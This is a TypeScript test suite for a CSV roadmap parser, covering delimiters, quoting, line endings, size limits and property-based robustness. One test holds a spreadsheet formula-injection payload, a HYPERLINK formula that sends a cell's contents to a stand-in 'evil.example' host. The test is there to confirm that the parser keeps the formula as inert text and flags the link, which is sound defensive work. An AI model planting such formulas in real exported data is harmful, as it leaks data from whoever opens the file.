import fc from 'fast-check';
import { DEFAULT_LIMITS } from '../options';
import { readRoadmap } from '../readRoadmap';
import { parseCsv } from './csv';

function parse(text: string, limits = DEFAULT_LIMITS) {
  const { syntax, problems } = parseCsv('a.csv', text, limits);
  return {
    rows: syntax?.rows.map(row => row.cells.map(cell => cell?.text ?? '')),
    problems: problems.map(
      ({ code, line, column }) => `${code} ${line}:${column}`,
    ),
    messages: problems.map(({ message }) => message),
    syntax,
  };
}

/** Reads a backlog to the names of its capabilities and what is wrong with it. */
function read(text: string) {
  const { roadmap, problems } = readRoadmap([{ file: 'a.csv', text }], {
    id: 'a',
    source: 'a.csv',
  });
  return {
    names: roadmap.capabilities.map(({ name }) => name),
    problems: problems.map(
      ({ severity, code, line, column }) =>
        `${severity} ${code} ${line}:${column}`,
    ),
    capabilities: roadmap.capabilities,
  };
}

describe('a CSV document', () => {
  it.each([
    ['commas', 'title,owner\nA,x\nB,y\n'],
    ['semicolons', 'title;owner\nA;x\nB;y\n'],
    ['tabs', 'title\towner\nA\tx\nB\ty\n'],
    ['blanks', ' title , owner\n A, x \nB ,"y" '],
    ['quotes', '"title","owner"\n"A","x"\n"B","y"'],
    ['empty lines', '\n\ntitle,owner\n\nA,x\n,\n\nB,y\n'],
    ['separators at the end', 'title,owner,,\nA,x,,\nB,y,,,,\n'],
    ['CRLF', 'title,owner\r\nA,x\r\nB,y\r\n'],
    ['CR', 'title,owner\rA,x\rB,y'],
    ['a byte order mark', '\ufefftitle,owner\nA,x\nB,y\n'],
    ['other spellings', 'TITLE,"Owner "\nA,x\nB,y\n'],
  ])('is read with %s', (_, text) => {
    const { names, problems, capabilities } = read(text);
    expect(problems).toEqual([]);
    expect(names).toEqual(['a', 'b']);
    expect(capabilities.map(({ owner }) => owner)).toEqual([
      'group:default/x',
      'group:default/y',
    ]);
  });

  it('holds planned services on layer 5, unless it has layers', () => {
    expect(read('title,lifecycle\nA,\nB,Production\n').capabilities).toEqual([
      expect.objectContaining({
        lifecycle: 'planned',
        layer: 5,
        type: 'service',
      }),
      expect.objectContaining({ lifecycle: 'production' }),
    ]);
    expect(read('title,layer\nA,3\n').capabilities).toEqual([
      expect.objectContaining({ layer: 3, type: 'capability' }),
    ]);
  });

  it('takes line breaks in a cell as what separates the items of a list', () => {
    const text = 'title,tags,technologies\nA,"a\nb;c","D (e, f)\nG"\n';
    expect(read(text).capabilities[0]).toMatchObject({
      tags: ['a', 'b', 'c'],
      technologies: [{ name: 'D (e, f)' }, { name: 'G' }],
    });
  });

  it.each(['title,owner\nA,x', 'no header'])(
    'leaves an overlay to the document that it is for: %j',
    text => {
      const overlay = {
        file: 'a.capabilities.yaml',
        text: 'capabilities: {z: }',
      };
      const { problems } = readRoadmap([{ file: 'a.csv', text, overlay }], {
        id: 'a',
        source: 'a.csv',
      });
      expect(problems.map(({ code }) => code)).not.toContain(
        'unknown-capability',
      );
    },
  );

  it.each([
    ['has no title', 'owner,target\nx,y\n', '1:1'],
    ['has a title that is written wrong', 'titel,owner\nA,x\n', '1:1'],
    ['is not there', 'A,x\nB,y\n', '1:1'],
    ['has a quote without an end', 'owner,"title\nA,x\n', '1:7'],
    ['has 301 cells', `title${',owner'.repeat(300)}\nA\n`, '1:1'],
  ])('is not read where the first row %s', (_, text, at) => {
    const { names, problems } = read(text);
    expect(names).toEqual([]);
    expect(problems).toContain(`error missing-header ${at}`);
  });

  it.each([
    ['is never closed', 'B,"open', 'unclosed-quote 3:3'],
    ['is never closed, in the first cell', '"B,x', 'unclosed-quote 3:1'],
    ['has text behind it', '"B" b,x', 'unclosed-quote 3:1'],
    ['stands inside of a quoted cell', 'B,"a "b" c"', 'unclosed-quote 3:3'],
    ['is closed too early', 'B,"a "b, c"', 'unclosed-quote 3:3'],
  ])('loses one row and says so where a quote %s', (_, broken, problem) => {
    const { rows, problems } = parse(
      `title,owner\nA,x\n${broken}\nC,"y, z"\nD,"a\n""b"""\nE,\n`,
    );
    expect(rows).toEqual([
      ['A', 'x'],
      ['C', 'y, z'],
      ['D', 'a\n"b"'],
      ['E', ''],
    ]);
    expect(problems).toEqual([problem]);
  });

  it('does not take the text of a broken cell for rows', () => {
    const { rows, problems, messages } = parse(
      'title,owner,tags\nA,"one "two" three\nfour\nfive, "six"\na, b "c", d",\nB,x,\n',
    );
    expect(rows).toEqual([['B', 'x', '']]);
    expect(problems).toEqual(['unclosed-quote 2:3']);
    expect(messages[0]).toContain('lines 2 to 5 are left out');
  });

  it('says that a quote took all that follows', () => {
    const { rows, messages } = parse('title,owner\nA,x\nB,"\n1,2,3\n4');
    expect(rows).toEqual([['A', 'x']]);
    expect(messages).toEqual([
      'The quote that begins the cell has no end; lines 3 to 5 are left out.',
    ]);
  });

  it('leaves out a cell that is too large, and nothing else', () => {
    const large = 'x'.repeat(1024 * 1024);
    const text = `title,description\nA,${large}\nB,"${large}"\n${large},\nC,c\n`;
    const { names, problems } = read(text);
    expect(names).toEqual(['a', 'b', 'c']);
    expect(problems).toEqual([
      'error cell-too-large 2:3',
      'error cell-too-large 3:3',
      'error cell-too-large 4:1',
      'error no-name 4:1',
    ]);
  });

  it('keeps a formula as the text that it is', () => {
    const formula = '=HYPERLINK("https://evil.example?"&A1,"Click")';
    const cell = `"${formula.replaceAll('"', '""')}"`;
    const { capabilities, problems } = read(
      `title,description,links,owner\n${cell},${cell},${cell},=1+1\n`,
    );
    expect(capabilities).toEqual([
      expect.objectContaining({
        title: formula,
        description: formula,
        links: [],
      }),
    ]);
    expect(capabilities[0]).not.toHaveProperty('owner');
    expect(problems).toEqual([
      'warning unsafe-link 2:107',
      'error invalid-reference 2:160',
    ]);
  });

  it('invents nothing where it is cut', () => {
    const text = [
      'title,id,description',
      'Queues,,"Some, ""quoted""\n\ntext"',
      '"Caches, large",caches,',
      'Mail,,',
    ].join('\n');
    const whole = read(text).names;
    expect(whole).toEqual(['queues', 'caches', 'mail']);
    for (let end = 0; end < text.length; end += 1) {
      const { names } = read(text.slice(0, end));
      expect(whole.slice(0, names.length)).toEqual(names);
    }
  });

  it.each([
    ['Que', 'missing-cells 2:1'],
    ['Queues,', 'missing-cells 2:1'],
    ['Queues,"te', 'unclosed-quote 2:8'],
  ])('says where it ends within a row: %j', (row, problem) => {
    const { rows, problems } = parse(`title,description,id\n${row}`);
    expect(rows).toEqual([]);
    expect(problems).toEqual([problem]);
  });

  it('gives the same names for the same rows, however many there were between', () => {
    const rows = (count: number) =>
      read(
        `title,owner\n${Array.from(
          { length: count },
          (_, row) => `Row ${row},x\n`,
        ).join('')}`,
      ).names;
    const [all, some, none, again] = [100, 40, 0, 100].map(rows);
    expect(all).toHaveLength(100);
    expect(some).toEqual(all.slice(0, 40));
    expect(none).toEqual([]);
    expect(again).toEqual(all);
  });

  it('stops at the limit for capabilities, counting rows that are wrong', () => {
    const { rows, problems } = parse('title,owner\nA,a,a\nB\nC,\nD,\n', {
      ...DEFAULT_LIMITS,
      capabilities: 3,
    });
    expect(rows).toEqual([['B'], ['C', '']]);
    expect(problems).toEqual([
      'surplus-cells 2:5',
      'missing-cells 3:1',
      'too-many-capabilities 5:1',
    ]);
  });

  it.each([
    ['', '"x""\n'],
    ['title,owner\n', '"x""\n'],
    ['title,owner\n', 'A,"\n'],
    ['title,owner\n', '"\n'],
    ['title,owner\n', ',,,,,,,,,,\n'],
    ['', ','],
    ['', '"",'],
    ['title,owner\n', 'A,b\n'],
  ])('of 5 MiB ends, with %j before many %j', (begin, part) => {
    const text = begin + part.repeat((5 * 1024 * 1024) / part.length);
    expect(parse(text).rows?.length ?? 0).toBeLessThanOrEqual(10_000);
  });
});

describe('the rows of a CSV document', () => {
  const text = fc.oneof(
    fc.string({
      unit: fc.constantFrom('a', '"', ',', ';', '\n', ' ', 'é', '='),
    }),
    fc.string(),
  );
  const row = fc
    .tuple(text, text, text)
    .map(cells => cells.map(cell => cell.replace(/[\r\0]/g, '').trim()));
  const rows = fc.array(row, { maxLength: 8 });
  const write = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
  const delimiters = fc.constantFrom(',', ';', '\t');

  it('are read as they are written, and each cell is where it says', () => {
    fc.assert(
      fc.property(rows, delimiters, (list, delimiter) => {
        const header = ['title', 'owner', 'tags'].join(delimiter);
        const document = [
          header,
          ...list.map(cells => cells.map(write).join(delimiter)),
        ].join('\n');
        const { rows: found, syntax, problems } = parse(document);
        expect(problems).toEqual([]);
        expect(found).toEqual(list.filter(cells => cells.some(Boolean)));
        const lines = document.split('\n');
        for (const cell of syntax!.rows.flatMap(({ cells }) => cells)) {
          const rest = [
            lines[(cell?.line ?? 1) - 1].slice((cell?.column ?? 1) - 1),
            ...lines.slice(cell?.line),
          ].join('\n');
          expect(!cell || rest.startsWith(write(cell.text))).toBe(true);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('are all there but one, where one is broken', () => {
    const sound = fc.stringMatching(/^[a-z]{1,5}( "[a-z]"|,|\n[a-z])?[a-z]$/);
    const broken = fc.constantFrom('X,"y', '"X,y', '"X" y,z,', '"X"",y', '"');
    fc.assert(
      fc.property(
        fc.array(sound, { maxLength: 5 }),
        broken,
        fc.array(sound, { maxLength: 5 }),
        (before, wrong, after) => {
          const line = (title: string) => `${write(title)},"o, p",q`;
          const { rows: found, problems } = parse(
            [
              'title,owner,tags',
              ...before.map(line),
              wrong,
              ...after.map(line),
            ].join('\n'),
          );
          expect(found).toEqual(
            [...before, ...after].map(title => [title, 'o, p', 'q']),
          );
          expect(problems).toHaveLength(1);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('never make the reader throw', () => {
    const piece = fc.constantFrom(
      ...[
        'title',
        'owner',
        ',',
        ';',
        '\n',
        '"',
        '""',
        ' ',
        '\t',
        'a',
        '=x',
        'é',
      ],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), pieces => {
        for (const problem of parse(pieces.join('')).problems) {
          expect(problem).toMatch(/ [1-9]\d*:[1-9]\d*$/);
        }
        expect(() => read(pieces.join(''))).not.toThrow();
      }),
      { numRuns: 1000 },
    );
  });
});
